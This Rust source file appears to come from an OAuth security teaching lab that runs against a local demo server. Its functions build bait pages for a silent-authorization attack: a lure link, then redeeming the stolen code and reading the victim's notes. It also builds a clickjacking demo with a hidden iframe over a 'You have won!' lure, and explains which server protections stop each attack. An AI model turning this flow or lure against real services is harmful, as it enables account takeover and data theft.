//! Nobody asks the victim: `silent-authorization` and `framing`.

use crate::attack::{Attack, Cell};
use crate::find;
use crate::scene::Scene;
use crate::stage::PORT;
use crate::stage::page::{Page, escape};
use crate::stage::state::Stage;
use crate::support::consent::his_request;
use crate::support::notes;
use crate::support::replay::access_token;
use crate::who::Who::Attacker;
use kit::encoding::query_pairs;
use kit::ladder::Capability;
use kit::{Request, Verdict};

/// A link to `/authorize` in the name of the attacker's own application.
pub fn silent(stage: &Stage, attack: &'static Attack) -> Result<String, Verdict> {
    let version = stage.target.version;
    // Without state the request still works, and with it the code finds its verifier again.
    let request = his_request(&Scene::new(stage.target.clone()))?;
    let state = request.code_verifier[..12].to_owned();
    let request = request.set("state", &state);
    let link = request.url();
    stage.begin(request);
    let client = stage.target.client.clone().unwrap_or_default();
    Ok(Page::new(attack, version)
        .heading("What the attacker has prepared")
        .text("He has registered an application of his own at the server: demo-other, which calls itself \"Wallpaper of the Day\". The link below asks for a code in its name.")
        .html(format!("<pre>{}</pre>", escape(&link)))
        .heading("What you do")
        .list(&[
            format!("Log in at the server, for the honest client: `{client}/`, as `user0`."),
            "Then come back and click what the attacker has put here for you:".to_owned(),
        ])
        .html(format!("<p><a class=\"bait\" id=\"bait\" href=\"{}\">See the pictures of last night</a></p>", escape(&link)))
        .heading("What to look at")
        .list(&after_the_click(stage))
        .end(attack, version))
}

/// What the victim sees when she has clicked.
fn after_the_click(stage: &Stage) -> Vec<String> {
    let mut look = match Capability::Consent.is_in(stage.target.version) {
        true => vec![
            "This time the server asks you first. Its page says who wants what, and where your browser goes with the answer.".to_owned(),
            "Press Deny, and the next page shows what he gets: an error.".to_owned(),
            "Then click the bait again and press Allow. Now he can read your notes, but not behind your back.".to_owned(),
        ],
        false => vec![
            "No page of the server appears in between. The next thing that you see is the attacker's, and what he has got.".to_owned(),
        ],
    };
    if stage.port != PORT {
        look.push(format!(
            "demo-other has registered `http://127.0.0.1:{}/callback`, and this site has port {}: the code will go past it.",
            PORT, stage.port
        ));
    }
    look
}

/// The callback of the attacker's application: what he does with the victim's code.
pub async fn receive(stage: &Stage, query: &str) -> Result<String, Verdict> {
    let attack = find("silent-authorization").unwrap_or(stage.attack);
    let version = stage.target.version;
    let pairs = query_pairs(&format!("?{query}"));
    let value = |name: &str| pairs.iter().find(|pair| pair.0 == name).map(|pair| pair.1.clone());
    let page = Page::new(attack, version).heading("What the attacker has received");
    let Some(code) = value("code") else {
        return Ok(page
            .html(format!("<pre>{}</pre>", escape(query)))
            .text(match value("error").as_deref() {
                Some("access_denied") => "No code: you said no, and that is all that he learns.",
                _ => "No code: the server did not go along.",
            })
            .end(attack, version));
    };
    let page =
        page.html(format!("<p id=\"loot\">A code for you: <code>{}</code></p>", escape(&code)));
    if !Capability::TokenEndpoint.is_in(version) {
        let state = format!("{}/debug/state", stage.target.server);
        return Ok(page
            .list(&[format!("Look for it in `{state}`: `client_id` is `demo-other`, `user_id` is you. Nobody asked you.")])
            .end(attack, version));
    }
    let scene = Scene::new(stage.target.clone());
    let request = value("state").and_then(|state| {
        let begun = stage.begun.lock().unwrap_or_else(std::sync::PoisonError::into_inner);
        begun.iter().find(|request| request.params.get("state") == Some(&state)).cloned()
    });
    let Some(request) = request else {
        return Ok(page.text("It does not belong to a link of this site, so the attacker has no verifier for it.").end(attack, version));
    };
    let other = stage.target.other()?;
    let redeem = stage.target.token_request(other);
    let redeem = redeem.set("grant_type", "authorization_code").set("code", &code);
    let redeem = redeem
        .set("redirect_uri", &request.redirect_uri)
        .set("code_verifier", &request.code_verifier);
    let answer = scene
        .send(Attacker, redeem.http(), "His application redeems the code with its own secret.")
        .await?;
    if Capability::ProtectedApi.is_in(version) && answer.status == 200 {
        let me = Request::get(stage.target.url("/api/me")).bearer(&access_token(&answer));
        scene.send(Attacker, me, "And the API tells him who you are.").await?;
    }
    if Capability::Scopes.is_in(version) && answer.status == 200 {
        notes::read(&scene, Attacker, &access_token(&answer), "And what you have written.").await?;
    }
    Ok(page.heading("What he has done with it").tale(&scene).end(attack, version))
}

/// The login page in a frame that nobody sees.
pub fn framing(stage: &Stage, attack: &'static Attack) -> Result<String, Verdict> {
    let version = stage.target.version;
    let login = stage.target.url("/login");
    let look = match attack.cell(version) {
        Cell::Stopped => [
            "The frame is empty, or says that the server refused: its page came with `X-Frame-Options: DENY` and `frame-ancestors 'none'`. The browser's console (F12) says so, too.".to_owned(),
            format!("In a tab of its own the same page works: `{login}`."),
            "From this version on there is a page with an Allow button. In a frame, one click would be enough: see `cargo lab attack consent-clickjacking`.".to_owned(),
        ],
        _ => [
            "The frame holds the true login page of the server. It came without `X-Frame-Options` and without `frame-ancestors`, so the browser shows it.".to_owned(),
            "What you type and click lands there. With a page that asks \"May this application …?\" one click would be enough.".to_owned(),
            format!("Cross-site (`http://127.0.0.1:{0}/framing`) the frame gets no Lax cookies; from `http://localhost:{0}/framing` it gets them all: another port is the same site.", stage.port),
        ],
    };
    Ok(Page::new(attack, version)
        .heading("What you see, and what is above it")
        .html("<input type=\"checkbox\" id=\"reveal\"> <label for=\"reveal\">Show the frame that the attacker has made nearly invisible</label>")
        .html(format!(
            "<div class=\"frame\"><div class=\"lure\"><h2>You have won!</h2><p>Type your name and your lucky number into the fields, and press the button.</p></div>\
             <iframe id=\"frame\" title=\"the login page of the server\" src=\"{}\"></iframe></div>",
            escape(&login)
        ))
        .heading("What to look at")
        .list(&look)
        .end(attack, version))
}
